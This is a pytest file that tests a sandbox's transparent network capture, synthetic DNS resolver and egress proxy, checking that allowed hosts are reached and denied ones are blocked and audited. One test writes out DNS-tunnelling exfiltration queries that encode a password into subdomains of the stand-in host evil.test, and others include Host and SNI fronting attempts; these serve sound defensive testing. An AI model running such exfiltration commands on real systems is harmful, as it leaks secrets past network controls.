"""Transparent capture and the sandbox's DNS (network.transparent, issue 11).

Every program in the sandbox gets policy-checked network, proxy variables or
not: the sandbox's resolver (127.0.0.1:53, named by the sandbox's
/etc/resolv.conf) answers only names the policy could allow, with synthetic
addresses (198.18.0.0/15, fd7a:6b8c:5d2e::/96) that the sandbox's nftables
redirect turns into connections to cordon's proxy, which judges them by the
name behind the address, like a CONNECT.

The tests run in the egress lab (egress_lab.py), whose logging DNS server is
the proxy's resolver, so each one checks what the host side saw: a denied
name never reaches it, in any query type (egress-attacks.md T20, T28), and
the origins see only what the policy allows. Clients are the ones people
use without a proxy: curl --noproxy '*', a Python socket, nc, openssl
s_client, getent, dig. Every test runs as root and as uid 65534.
"""
import base64
import ipaddress
import json
import os
import shutil
import signal
import subprocess
import time

import pytest

import egress_lab
import tls_lab
from egress_helpers import PUBLIC4, Net
from helpers import disable_layers

SYNTH4 = ipaddress.ip_network("198.18.0.0/15")
SYNTH6 = ipaddress.ip_network("fd7a:6b8c:5d2e::/96")
NOT_LISTED = "host is not on the allow list"
BAD_PORT = "port is not allowed for this host"

# A client for raw sockets inside the sandbox: JSON operations in argv[1],
# one JSON result per operation on stdout.
CLIENT = r'''
import errno, json, socket, sys, time

def err(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if getattr(e, "errno", None) else repr(e)

out = []
for op in json.loads(sys.argv[1]):
    t0 = time.monotonic()
    r = {}
    try:
        if op["op"] == "tcp":
            if "family" in op:  # one family of the name's addresses
                fam = socket.AF_INET if op["family"] == 4 else socket.AF_INET6
                a = socket.getaddrinfo(op["host"], op["port"], fam, socket.SOCK_STREAM)[0]
                s = socket.socket(fam, socket.SOCK_STREAM)
                s.settimeout(10)
                s.connect(a[4])
            else:
                s = socket.create_connection((op["host"], op["port"]), timeout=10)
            r["peer"] = s.getpeername()[0]
            s.sendall(bytes.fromhex(op["sendhex"]) if "sendhex" in op
                      else op.get("send", "").encode())
            s.shutdown(socket.SHUT_WR)
            got = b""
            while True:
                d = s.recv(65536)
                if not d:
                    break
                got += d
            r["got"] = got.decode("latin-1")
            r["result"] = "OK"
        elif op["op"] == "udp":
            fam = socket.AF_INET6 if ":" in op["host"] else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_DGRAM)
            s.sendto(b"quic?", (op["host"], op["port"]))
            r["result"] = "OK"
        elif op["op"] == "resolve":
            r["addrs"] = sorted({a[4][0] for a in socket.getaddrinfo(op["host"], 80)})
            r["result"] = "OK"
    except socket.gaierror as e:
        r["result"] = "EAI_NONAME" if e.errno == socket.EAI_NONAME else "EAI_%d" % e.errno
    except OSError as e:
        r["result"] = err(e)
    r["ms"] = round((time.monotonic() - t0) * 1000)
    out.append(r)
print(json.dumps(out))
'''


@pytest.fixture(scope="module")
def tools():
    why = egress_lab.ensure_debian({"dnsutils": "/usr/bin/dig", "netcat-openbsd": "/bin/nc.openbsd",
                                    "openssl": "/usr/bin/openssl", "curl": "/usr/bin/curl"})
    if why:
        pytest.skip(why)


@pytest.fixture
def net(sb, egress_lab, tools):
    n = Net(sb, egress_lab)
    n.put("ca.pem", egress_lab.ca_pem)
    n.put("client.py", CLIENT)
    return n


def client(net, settings, ops, **kw):
    p = net.run(settings, egress_lab.PY, "client.py", json.dumps(ops), **kw)
    assert p.returncode == 0, p.stdout + p.stderr
    return json.loads(p.stdout.strip().splitlines()[-1])


def connects(net, verdict):
    return [(r["host"], r["port"], r["via"]) for r in net.audit("net.connect")
            if r["verdict"] == verdict]


def dns_denials(net):
    return [(r["name"], r["type"]) for r in net.audit("dns.query")]


def runs_of(p):
    """Outputs of a script whose commands each end with `echo "rc=$?"`:
    [(rc, output)], the output being what came before that rc."""
    parts = p.stdout.split("rc=")
    out, text = [], parts[0]
    for part in parts[1:]:
        rc, _, rest = part.partition("\n")
        out.append((int(rc), text))
        text = rest
    return out


def nothing_reached(net):
    assert net.origin() == [], "the origin saw: %r" % net.origin()
    assert net.echo() == [], "the echo server saw: %r" % net.echo()


def synthetic(addr):
    a = ipaddress.ip_address(addr)
    return a in (SYNTH4 if a.version == 4 else SYNTH6)


# ---------------------------------------------------------------------------
# allowed names, any port, any client

def test_every_client_reaches_an_allowed_name_on_any_port(net):
    """curl with the proxy off, a raw socket, nc and openssl s_client reach
    allowed.test on the ports the policy names (random ones: the echo
    server's, and the HTTP and HTTPS origins' second ports), each through
    the proxy with a net.connect record (via transparent), and the host's
    resolver is asked only for allowed.test, by the proxy."""
    echo, http, https = net.ports["echo"], net.ports["http_alt"], net.ports["https_alt"]
    s = net.settings(allow=["allowed.test:%d" % p for p in (echo, http, https)])
    p = net.sh(s, """
getent hosts allowed.test; echo "rc=$?"
curl -sS --noproxy '*' http://allowed.test:%(http)d/curl; echo "rc=$?"
printf 'netcat\\n' | nc -N allowed.test %(echo)d; echo "rc=$?"
printf 'GET /s-client HTTP/1.1\\r\\nHost: allowed.test:%(https)d\\r\\nConnection: close\\r\\n\\r\\n' |
  openssl s_client -quiet -verify_return_error -CAfile ca.pem -servername allowed.test \
    -connect allowed.test:%(https)d 2>/dev/null | tail -n 1; echo "rc=$?"
""" % {"http": http, "echo": echo, "https": https})
    runs = runs_of(p)
    assert len(runs) == 4, p.stdout + p.stderr
    rc, out = runs[0]
    addr, name = out.split()
    assert rc == 0 and name == "allowed.test" and synthetic(addr), out
    assert runs[1] == (0, "hello from http GET /curl\n"), p.stdout + p.stderr
    assert runs[2] == (0, "netcat\n"), p.stdout + p.stderr
    assert runs[3] == (0, "hello from https GET /s-client\n"), p.stdout + p.stderr
    assert connects(net, "deny") == []
    assert connects(net, "allow") == [("allowed.test", http, "transparent"),
                                      ("allowed.test", echo, "transparent"),
                                      ("allowed.test", https, "transparent")]
    assert {r["address"] for r in net.audit("net.connect")} == {PUBLIC4}
    # plain HTTP is judged request by request, as in an intercepted tunnel
    assert [(r["method"], r["path"], r["status"]) for r in net.audit("net.request")] == \
        [("GET", "/curl", 200)]
    assert [r["line"] for r in net.requests()] == ["GET /curl HTTP/1.1",
                                                   "GET /s-client HTTP/1.1"]
    assert [e["sni"] for e in net.events(srv="https", ev="tls")] == ["allowed.test"]
    assert [e["first"] for e in net.echo() if e["ev"] == "eof"] == ["netcat\n"]
    assert {n for n, _ in net.dns()} == {"allowed.test"}

    # a raw socket, by either address family
    res = client(net, s, [{"op": "resolve", "host": "allowed.test"},
                          {"op": "tcp", "host": "allowed.test", "port": echo,
                           "send": "raw socket\n"}])
    addrs = res[0]["addrs"]
    assert len(addrs) == 2 and all(synthetic(a) for a in addrs), res
    assert res[1]["result"] == "OK" and res[1]["got"] == "raw socket\n", res
    assert synthetic(res[1]["peer"]), res
    v4 = [a for a in addrs if ":" not in a][0]
    v6 = [a for a in addrs if ":" in a][0]
    assert int(ipaddress.ip_address(v6)) & 0xffffffff == int(ipaddress.ip_address(v4))
    res = client(net, s, [{"op": "tcp", "host": "allowed.test", "family": f, "port": echo,
                           "send": "IPv%d\n" % f} for f in (4, 6)])
    assert [r.get("got") for r in res] == ["IPv4\n", "IPv6\n"], res
    assert ipaddress.ip_address(res[0]["peer"]) in SYNTH4, res
    assert ipaddress.ip_address(res[1]["peer"]) in SYNTH6, res
    assert connects(net, "allow") == [("allowed.test", echo, "transparent")] * 2


# ---------------------------------------------------------------------------
# denied names: nothing resolves, nothing leaves (T20, T28)

def test_denied_names_get_nxdomain_and_never_reach_the_host_resolver(net):
    """Every client fails to resolve a denied name; the sandbox's DNS answers
    NXDOMAIN in every type (a TXT or NULL query carrying data included) and
    records each query; the host's resolver and the origins see nothing."""
    secret = base64.b32encode(b"the password is hunter2").decode().rstrip("=").lower()
    s = net.settings(allow=["allowed.test"])
    p = net.sh(s, """
getent hosts evil.test; echo "rc=$?"
getent ahosts www.evil.test; echo "rc=$?"
dig +time=2 +tries=1 evil.test | grep -o 'status: [A-Z]*'; echo "rc=$?"
dig +time=2 +tries=1 TXT %(secret)s.evil.test | grep -o 'status: [A-Z]*'; echo "rc=$?"
dig +time=2 +tries=1 NULL %(secret)s.x.evil.test | grep -o 'status: [A-Z]*'; echo "rc=$?"
dig +time=2 +tries=1 +tcp ANY evil.test | grep -o 'status: [A-Z]*'; echo "rc=$?"
curl -sS --noproxy '*' http://evil.test/ 2>&1; echo "rc=$?"
nc -w 2 evil.test 80 </dev/null 2>&1; echo "rc=$?"
openssl s_client -connect evil.test:443 </dev/null >/dev/null 2>&1; echo "rc=$?"
""" % {"secret": secret})
    runs = runs_of(p)
    assert [r[0] for r in runs] == [2, 2, 0, 0, 0, 0, 6, 1, 1], p.stdout + p.stderr
    assert [r[1] for r in runs[2:6]] == ["status: NXDOMAIN\n"] * 4, p.stdout
    assert runs[6][1] == "curl: (6) Could not resolve host: evil.test\n", p.stdout
    assert "evil.test" in runs[7][1], p.stdout
    denials = dns_denials(net)
    for want in [("evil.test", "A"), ("www.evil.test", "A"), (secret + ".evil.test", "TXT"),
                 (secret + ".x.evil.test", "NULL"), ("evil.test", "ANY")]:
        assert want in denials, denials
    assert all(r["reason"] == NOT_LISTED for r in net.audit("dns.query"))
    assert net.audit("net.connect") == []
    res = client(net, s, [{"op": "resolve", "host": "evil.test"}])
    assert res[0]["result"] == "EAI_NONAME", res
    assert net.dns() == [], "the host's resolver was asked: %r" % net.dns()
    nothing_reached(net)


# ---------------------------------------------------------------------------
# allowed names: the wrong port, or bytes that name another host

def test_wrong_port_and_a_misnamed_destination_are_refused(net):
    """An allowed name on a port the policy does not allow is reset at once
    (the trap on port 22 sees nothing); a TLS server name or an HTTP Host
    that names another host than the address stands for is refused like
    requireHostMatch, with a record, and no request reaches the origin."""
    s = net.settings(allow=["allowed.test"])
    p = net.sh(s, """
curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' -H 'Host: evil.test' http://allowed.test/fronted; echo " rc=$?"
openssl s_client -CAfile ca.pem -servername evil.test -connect allowed.test:443 </dev/null >/dev/null 2>&1; echo "rc=$?"
printf 'GET /sni-ok HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n' |
  openssl s_client -quiet -verify_return_error -CAfile ca.pem -servername allowed.test \
    -connect allowed.test:443 2>/dev/null | tail -n 1; echo "rc=$?"
""")
    runs = runs_of(p)
    assert runs[0] == (0, "421 "), p.stdout + p.stderr
    assert runs[1][0] != 0, p.stdout
    assert runs[2] == (0, "hello from https GET /sni-ok\n"), p.stdout + p.stderr
    reqs = net.audit("net.request")
    assert [(r["status"], r["verdict"]) for r in reqs] == [(421, "deny")], reqs
    assert "names evil.test:80, not the CONNECT target allowed.test:80" in reqs[0]["reason"]
    denied = [r for r in net.audit("net.connect") if r["verdict"] == "deny"]
    assert [(r["host"], r["port"], r["via"]) for r in denied] == [
        ("allowed.test", 443, "transparent")]
    assert denied[0]["reason"] == ('the TLS server name "evil.test" does not name the '
                                   'destination allowed.test')
    assert [r["line"] for r in net.requests()] == ["GET /sni-ok HTTP/1.1"]
    assert [e["sni"] for e in net.events(srv="https", ev="tls")] == ["allowed.test"]

    res = client(net, s, [{"op": "tcp", "host": "allowed.test", "port": 22, "send": "SSH-2.0-x\r\n"}])
    assert res[0]["result"] in ("ECONNRESET", "EPIPE", "ENOTCONN"), res
    assert res[0]["ms"] < 1000, res
    # (the reset may come before connect(2) returns: then the client tries
    # the name's other address too, and is refused again)
    assert set(connects(net, "deny")) == {("allowed.test", 22, "transparent")}
    assert connects(net, "allow") == []
    assert {r["reason"] for r in net.audit("net.connect")} == {BAD_PORT}
    assert net.echo(22) == []


def test_captured_http_in_a_lenient_spelling_is_still_judged(net):
    """A captured plain-HTTP request that a lenient server would read
    (empty lines before it, RFC 9112 2.2; a lower-case method; a tab after
    the method) is parsed as HTTP, not passed as an opaque stream: a Host
    naming another host gets 421, a malformed request-line 400, each with a
    record, and the empty lines are dropped before an allowed request. A
    stream that is not HTTP (memcached's "get key") still passes as is."""
    echo = net.ports["echo"]
    s = net.settings(allow=["allowed.test", "allowed.test:%d" % echo])

    def tcp(data, port=80):
        return {"op": "tcp", "host": "allowed.test", "port": port, "send": data}
    res = client(net, s, [
        tcp("\r\nGET /crlf HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        tcp("get /lower HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        tcp("GET\t/tab HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        tcp("\r\n\r\nGET /ok HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"),
        tcp("get key\r\n", echo)])
    assert [r["got"].split("\r\n")[0] for r in res[:4]] == [
        "HTTP/1.1 421 Misdirected Request", "HTTP/1.1 421 Misdirected Request",
        "HTTP/1.1 400 Bad Request", "HTTP/1.1 200 OK"], res
    assert res[4]["got"] == "get key\r\n", res
    reqs = [(r["method"], r["path"], r["status"], r["verdict"]) for r in net.audit("net.request")]
    assert reqs == [("GET", "/crlf", 421, "deny"), ("get", "/lower", 421, "deny"),
                    ("-", "", 400, "deny"), ("GET", "/ok", 200, "allow")], reqs
    assert [r["line"] for r in net.requests()] == ["GET /ok HTTP/1.1"]


def test_client_hello_with_ech_is_refused_on_the_captured_path(net):
    """T25 without the proxy variables: a raw socket sends a TLS 1.3
    ClientHello for allowed.test carrying encrypted_client_hello to
    allowed.test's synthetic address. The sniffer refuses it (reset, a deny
    record naming ECH) and the HTTPS origin sees no handshake; the same
    hello without ECH reaches it (the control)."""
    https = net.ports["https_alt"]
    s = net.settings(allow=["allowed.test:%d" % https])
    res = client(net, s, [
        {"op": "tcp", "host": "allowed.test", "port": https,
         "sendhex": tls_lab.client_hello("allowed.test", ech=True).hex()},
    ])
    assert res[0]["result"] in ("ECONNRESET", "EPIPE", "ENOTCONN") or \
        (res[0]["result"] == "OK" and res[0]["got"] == ""), res
    denied = [r for r in net.audit("net.connect") if r["verdict"] == "deny"]
    assert [(r["host"], r["port"], r["via"], r["reason"]) for r in denied] == [
        ("allowed.test", https, "transparent",
         "the ClientHello carries Encrypted Client Hello, which would hide the real "
         "destination; ECH is refused")], denied
    assert net.events(srv="https", ev="tls") == []

    res = client(net, s, [
        {"op": "tcp", "host": "allowed.test", "port": https,
         "sendhex": tls_lab.client_hello("allowed.test").hex()},
    ])
    # the origin answers the plain hello with a ServerHello
    assert res[0]["result"] == "OK" and res[0]["got"][:1] == "\x16", res
    assert connects(net, "allow") == [("allowed.test", https, "transparent")]


# ---------------------------------------------------------------------------
# addresses

def test_literal_addresses(net):
    """An address an IP entry allows is captured and judged like a name; any
    other address fails at once with EHOSTUNREACH, and its packets go
    nowhere."""
    echo = net.ports["echo"]
    s = net.settings(allow=["allowed.test", "%s:%d" % (PUBLIC4, echo)])
    res = client(net, s, [
        {"op": "tcp", "host": PUBLIC4, "port": echo, "send": "literal\n"},
        {"op": "tcp", "host": PUBLIC4, "port": 80, "send": "GET / HTTP/1.0\r\n\r\n"},
        {"op": "tcp", "host": "198.51.100.20", "port": echo},
        {"op": "tcp", "host": "203.0.113.9", "port": 443},
        {"op": "tcp", "host": "10.1.2.3", "port": 80},
        {"op": "tcp", "host": "2001:db8::10", "port": 80},
        {"op": "tcp", "host": "::ffff:203.0.113.9", "port": 443},
    ])
    assert res[0]["result"] == "OK" and res[0]["got"] == "literal\n", res
    assert res[1]["result"] in ("ECONNRESET", "EPIPE", "ENOTCONN"), res
    assert [r["result"] for r in res[2:]] == ["EHOSTUNREACH"] * 5, res
    assert all(r["ms"] < 1000 for r in res[1:]), res
    assert connects(net, "allow") == [(PUBLIC4, echo, "transparent")]
    assert net.audit("net.connect")[0]["rule"] == "%s:%d" % (PUBLIC4, echo)
    assert connects(net, "deny") == [(PUBLIC4, 80, "transparent")]
    assert [e["first"] for e in net.echo() if e["ev"] == "eof"] == ["literal\n"]
    assert net.origin() == [] and net.dns() == []


def test_udp_other_than_dns_is_refused_at_once(net):
    """QUIC and every other UDP fail on the first send (EPERM to a captured
    address, EHOSTUNREACH elsewhere), so clients fall back to TCP at once;
    the sandbox's own loopback and its DNS keep working."""
    echo = net.ports["echo"]
    s = net.settings(allow=["allowed.test", "%s:%d" % (PUBLIC4, echo)])
    res = client(net, s, [
        {"op": "resolve", "host": "allowed.test"},
        {"op": "udp", "host": "allowed.test", "port": 443},
        {"op": "udp", "host": PUBLIC4, "port": echo},
        {"op": "udp", "host": "8.8.8.8", "port": 53},
        {"op": "udp", "host": "2001:db8::10", "port": 443},
        {"op": "udp", "host": "127.0.0.1", "port": 9},
    ])
    assert res[0]["result"] == "OK", res
    assert [r["result"] for r in res[1:]] == ["EPERM", "EPERM", "EHOSTUNREACH", "EHOSTUNREACH",
                                              "OK"], res
    assert all(r["ms"] < 1000 for r in res), res
    nothing_reached(net)
    assert net.dns() == []


# ---------------------------------------------------------------------------
# the resolver itself

def test_dns_answers(net):
    """A and AAAA of an allowed name are one synthetic address in each range
    (the same index); other types of it carry no data, ANY is declined; TCP,
    reverse lookups, a stub address (127.0.0.53) and localhost work; and the
    host's resolver is never asked anything."""
    s = net.settings(allow=["allowed.test", "*.allowed.test"])
    p = net.sh(s, """
cat /etc/resolv.conf
dig +short allowed.test A; dig +short allowed.test AAAA
dig +short +tcp api.allowed.test A
dig TXT allowed.test | grep -oE 'status: [A-Z]+|ANSWER: [0-9]+'
dig ANY allowed.test | grep -oE 'status: [A-Z]+'
dig +short -x "$(dig +short allowed.test A)"
dig +short @127.0.0.53 allowed.test A
dig +short localhost A
""")
    lines = p.stdout.splitlines()
    assert "nameserver 127.0.0.1" in lines, p.stdout
    i = lines.index("nameserver 127.0.0.1") + 1
    a, aaaa, api, txt_status, txt_count, any_status, ptr, stub, lo = lines[i:i + 9]
    assert ipaddress.ip_address(a) in SYNTH4 and ipaddress.ip_address(aaaa) in SYNTH6, lines
    assert int(ipaddress.ip_address(aaaa)) & 0xffffffff == int(ipaddress.ip_address(a))
    assert ipaddress.ip_address(api) in SYNTH4 and api != a
    assert (txt_status, txt_count, any_status) == ("status: NOERROR", "ANSWER: 0",
                                                   "status: NOTIMP"), lines
    assert (ptr, stub, lo) == ("allowed.test.", a, "127.0.0.1"), lines
    assert net.dns() == []
    assert dns_denials(net) == []


def test_transparent_false_turns_it_all_off(net):
    """network.transparent false: no resolver (the host's resolv.conf, which
    the sandbox cannot reach), no capture; the proxy variables still work."""
    s = net.settings(allow=["allowed.test"], extra={"transparent": False})
    p = net.sh(s, """
grep -c cordon /etc/resolv.conf; echo "rc=$?"
getent hosts allowed.test; echo "rc=$?"
curl -sS --noproxy '*' http://198.18.0.2/ 2>&1; echo "rc=$?"
curl -sS http://allowed.test/proxied; echo "rc=$?"
""")
    runs = runs_of(p)
    assert [r[0] for r in runs] == [1, 2, 7, 0], p.stdout + p.stderr
    assert runs[3][1] == "hello from http GET /proxied\n"
    assert connects(net, "allow") == [("allowed.test", 80, "http")]


# ---------------------------------------------------------------------------
# interception and request rules apply to captured connections

def test_captured_https_is_intercepted_and_ruled(net):
    """With tlsTerminate and request rules, a program that ignores the proxy
    variables is held to the same rules: its HTTPS is intercepted (cordon's
    certificate, trusted through the variables cordon sets), every request
    judged and recorded, a request the rules do not allow refused."""
    ca = net.sb.write("outside/lab-ca.pem", net.lab.ca_pem)
    s = net.settings(allow=["allowed.test"], extra={
        "tlsTerminate": {}, "upstreamCaFile": ca,
        "requestRules": [{"host": "allowed.test", "allow": ["GET /ok"]}]})
    p = net.sh(s, """
curl -sS --noproxy '*' https://allowed.test/ok; echo "rc=$?"
curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' https://allowed.test/v1/files; echo " rc=$?"
curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' -X POST http://allowed.test/ok; echo " rc=$?"
openssl s_client -servername allowed.test -connect allowed.test:443 </dev/null 2>/dev/null |
  openssl x509 -noout -issuer; echo "rc=$?"
""")
    runs = runs_of(p)
    assert runs[0] == (0, "hello from https GET /ok\n"), p.stdout + p.stderr
    assert runs[1] == (0, "403 ") and runs[2] == (0, "403 "), p.stdout + p.stderr
    assert runs[3][0] == 0 and "cordon" in runs[3][1].lower(), p.stdout
    reqs = [(r["method"], r["path"], r["status"], r["verdict"]) for r in net.audit("net.request")]
    assert reqs == [("GET", "/ok", 200, "allow"), ("GET", "/v1/files", 403, "deny"),
                    ("POST", "/ok", 403, "deny")], reqs
    assert set(connects(net, "allow")) == {("allowed.test", 443, "transparent"),
                                           ("allowed.test", 80, "transparent")}
    assert [r["line"] for r in net.requests()] == ["GET /ok HTTP/1.1"]


# ---------------------------------------------------------------------------
# live updates (--control-fd)

LIVE = r'''
import json, os, socket, sys, time
echo = int(sys.argv[1])

def attempt():
    out = []
    try:
        s = socket.create_connection((sys.argv[2], echo), timeout=10)
        s.sendall(b"live\n")
        s.shutdown(socket.SHUT_WR)
        out.append(s.recv(100).decode())
    except OSError as e:
        out.append(os.strerror(e.errno))
    try:
        out.append(socket.getaddrinfo("late.test", 80)[0][4][0])
    except socket.gaierror:
        out.append("no such name")
    return out

for phase in (1, 2, 3):
    if phase > 1:
        while not os.path.exists("go-%d" % phase):
            time.sleep(0.02)
    with open("phase-%d.tmp" % phase, "w") as f:
        json.dump(attempt(), f)
    os.rename("phase-%d.tmp" % phase, "phase-%d" % phase)
'''


def test_live_updates_keep_dns_and_addresses_in_step(net):
    """Rules changed while the command runs (--control-fd): a name added is
    answered by the sandbox's DNS, an address added is captured (its local
    route appears), and once removed again both are refused as before."""
    echo = net.ports["echo"]
    with open(net.settings(allow=["allowed.test"])) as f:
        base = json.load(f)
    wider = json.loads(json.dumps(base))
    wider["network"]["allowedDomains"] = ["allowed.test", "late.test",
                                          "%s:%d" % (PUBLIC4, echo)]
    net.put("live.py", LIVE)
    settings = net.sb.settings(base, name="live-settings.json")
    audit = net.sb.path("outside", "live-audit.jsonl")
    ctl_r, ctl_w = os.pipe()
    argv = net.lab.argv(net.sb.argv(["-s", settings, "--audit", audit, "--control-fd",
                                     str(ctl_r), "--", egress_lab.PY, "live.py", str(echo),
                                     PUBLIC4]))
    p = subprocess.Popen(argv, cwd=net.sb.ws, env=net.sb.env(), stdin=subprocess.DEVNULL,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, pass_fds=(ctl_r,),
                         start_new_session=True)
    os.close(ctl_r)

    def phase(n):
        path = os.path.join(net.sb.ws, "phase-%d" % n)
        deadline = time.monotonic() + 30
        while not os.path.exists(path):
            assert p.poll() is None and time.monotonic() < deadline, p.communicate()
            time.sleep(0.02)
        with open(path) as f:
            return json.load(f)

    def update(doc, count):
        os.write(ctl_w, (json.dumps(doc) + "\n").encode())
        deadline = time.monotonic() + 30
        while True:
            with open(audit) as f:
                ups = [ln for ln in f if '"policy.update"' in ln]
            if len(ups) >= count:
                return
            assert time.monotonic() < deadline, "no policy.update record"
            time.sleep(0.02)

    try:
        assert phase(1) == ["No route to host", "no such name"]
        update(wider, 1)
        net.sb.write("home/ws/go-2", "")
        got = phase(2)
        assert got[0] == "live\n" and synthetic(got[1]), got
        update(base, 2)
        net.sb.write("home/ws/go-3", "")
        assert phase(3) == ["No route to host", "no such name"]
    finally:
        os.close(ctl_w)
        try:
            out, err = p.communicate(timeout=30)
        finally:
            if p.poll() is None:
                os.killpg(p.pid, signal.SIGKILL)
    assert p.returncode == 0, err
    with open(audit) as f:
        recs = [json.loads(ln) for ln in f]
    assert [(r["host"], r["port"], r["via"], r["verdict"]) for r in recs
            if r["event"] == "net.connect"] == [(PUBLIC4, echo, "transparent", "allow")]
    assert [(r["name"], r["type"]) for r in recs if r["event"] == "dns.query"
            and r["name"] == "late.test"] != []
    assert [e["first"] for e in net.echo() if e["ev"] == "eof"] == ["live\n"]


KEPT = r"""
import os, socket, ssl, sys, time

def status(s, req):
    s.sendall(req)
    got = b""
    while b"\r\n\r\n" not in got:
        d = s.recv(4096)
        if not d:
            return "EOF"
        got += d
    head, _, body = got.partition(b"\r\n\r\n")
    n = 0
    for ln in head.split(b"\r\n")[1:]:
        k, _, v = ln.partition(b":")
        if k.strip().lower() == b"content-length":
            n = int(v)
    while len(body) < n:
        d = s.recv(4096)
        if not d:
            break
        body += d
    return head.split(b" ")[1].decode()

def req(path, absolute=False):
    t = ("http://allowed.test" + path) if absolute else path
    return ("GET %s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % t).encode()

a = socket.create_connection(("127.0.0.1", 3128), timeout=10)
b = socket.create_connection(("allowed.test", 80), timeout=10)
c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
c.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
c.recv(4096)
c = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(
    c, server_hostname="allowed.test")
out = [status(a, req("/before-a", True)), status(b, req("/before-b")), status(c, req("/before-c"))]
open("ready", "w").close()
while not os.path.exists("go"):
    time.sleep(0.02)
out += [status(a, req("/after-a", True)), status(b, req("/after-b")), status(c, req("/after-c"))]
print(" ".join(out))
"""


def test_live_update_holds_for_the_next_request_on_a_kept_alive_connection(net):
    """A host allowed, then taken out of allowedDomains through --control-fd
    while connections to it stay open: the next request on each of them (a
    plain proxy request, a captured plain HTTP connection, an intercepted
    CONNECT tunnel) is refused with 403 and recorded as denied, and the
    origin never sees it."""
    ca = net.sb.write("outside/lab-ca.pem", net.lab.ca_pem)
    with open(net.settings(allow=["allowed.test"],
                           extra={"tlsTerminate": {}, "upstreamCaFile": ca})) as f:
        base = json.load(f)
    narrow = json.loads(json.dumps(base))
    narrow["network"]["allowedDomains"] = ["other.test"]
    net.put("kept.py", KEPT)
    settings = net.sb.settings(base, name="kept-settings.json")
    audit = net.sb.path("outside", "kept-audit.jsonl")
    ctl_r, ctl_w = os.pipe()
    argv = net.lab.argv(net.sb.argv(["-s", settings, "--audit", audit, "--control-fd",
                                     str(ctl_r), "--", egress_lab.PY, "kept.py"]))
    p = subprocess.Popen(argv, cwd=net.sb.ws, env=net.sb.env(), stdin=subprocess.DEVNULL,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                         pass_fds=(ctl_r,), start_new_session=True)
    os.close(ctl_r)
    try:
        deadline = time.monotonic() + 30
        while not os.path.exists(os.path.join(net.sb.ws, "ready")):
            assert p.poll() is None and time.monotonic() < deadline, p.communicate()
            time.sleep(0.02)
        os.write(ctl_w, (json.dumps(narrow) + "\n").encode())
        while True:
            with open(audit) as f:
                if any('"policy.update"' in ln for ln in f):
                    break
            assert time.monotonic() < deadline, "no policy.update record"
            time.sleep(0.02)
        net.sb.write("home/ws/go", "")
        out, err = p.communicate(timeout=30)
    finally:
        os.close(ctl_w)
        if p.poll() is None:
            os.killpg(p.pid, signal.SIGKILL)
    assert p.returncode == 0, err
    assert out.split() == ["200", "200", "200", "403", "403", "403"], out + err
    assert sorted(r["line"] for r in net.requests()) == [
        "GET /before-a HTTP/1.1", "GET /before-b HTTP/1.1", "GET /before-c HTTP/1.1"]
    with open(audit) as f:
        recs = [json.loads(ln) for ln in f]
    reqs = [(r["path"], r["status"], r["verdict"], r.get("rule")) for r in recs
            if r["event"] == "net.request"]
    assert sorted(reqs) == [("/after-b", 403, "deny", None), ("/after-c", 403, "deny", None),
                            ("/before-a", 200, "allow", "allowed.test"),
                            ("/before-b", 200, "allow", "allowed.test"),
                            ("/before-c", 200, "allow", "allowed.test")], reqs
    assert [r["reason"] for r in recs if r["event"] == "net.request" and
            r["verdict"] == "deny"] == [NOT_LISTED, NOT_LISTED]
    # The plain proxy request is refused at its host check: a net.connect
    # deny after the update.
    upd = next(i for i, r in enumerate(recs) if r["event"] == "policy.update")
    conns = [(r["host"], r["verdict"], r["reason"]) for r in recs[upd:]
             if r["event"] == "net.connect" and r["verdict"] == "deny"]
    assert conns == [("allowed.test", "deny", NOT_LISTED)], recs[upd:]


# ---------------------------------------------------------------------------
# /etc/resolv.conf as a symlink (systemd-resolved, resolvconf)

def test_resolv_conf_symlink_is_covered(root_sb):
    """When the host's /etc/resolv.conf is a symlink into /run (here a
    dangling one, as it is inside the sandbox whenever /run is not shown),
    the sandbox still reads cordon's file at /etc/resolv.conf, and the
    link's target is not touched. The host's /etc is swapped for a copy with
    such a link in a private mount namespace of the test's own (root)."""
    sb = root_sb
    etc = sb.path("etc-copy")
    shutil.copytree("/etc", etc, symlinks=True, ignore_dangling_symlinks=True,
                    ignore=lambda d, names: [n for n in names
                                             if not os.access(os.path.join(d, n), os.R_OK)])
    if os.path.lexists(os.path.join(etc, "resolv.conf")):
        os.unlink(os.path.join(etc, "resolv.conf"))
    os.symlink("../run/systemd/resolve/stub-resolv.conf", os.path.join(etc, "resolv.conf"))
    s = sb.settings({"network": {"allowedDomains": ["allowed.test"]}})
    script = ('mount --make-rprivate / && mount --bind "$1" /etc && '
              'readlink /etc/resolv.conf && exec "$2" -s "$3" -- sh -c '
              '"cat /etc/resolv.conf; getent hosts allowed.test; readlink /etc/resolv.conf; '
              'echo rc=\\$?"')
    p = subprocess.run(["unshare", "-m", "--", "sh", "-c", script, "sh", etc, sb.bin, s],
                       cwd=sb.ws, env=sb.env(), capture_output=True, text=True, timeout=60)
    lines = p.stdout.splitlines()
    assert lines[0] == "../run/systemd/resolve/stub-resolv.conf", p.stdout + p.stderr
    assert "nameserver 127.0.0.1" in lines, p.stdout + p.stderr
    addr, name = [ln for ln in lines if ln.endswith("allowed.test")][0].split()
    assert synthetic(addr)
    # inside, /etc/resolv.conf is cordon's file now, no longer a link
    assert lines[-1] == "rc=1", p.stdout


# ---------------------------------------------------------------------------
# the command cannot undo it

NO_ROUTE = r'''
import errno, socket
try:
    socket.create_connection(("203.0.113.5", 80), timeout=2)
    print("connected")
except OSError as e:
    print(errno.errorcode[e.errno])
'''


def test_the_command_cannot_change_the_capture(sb):
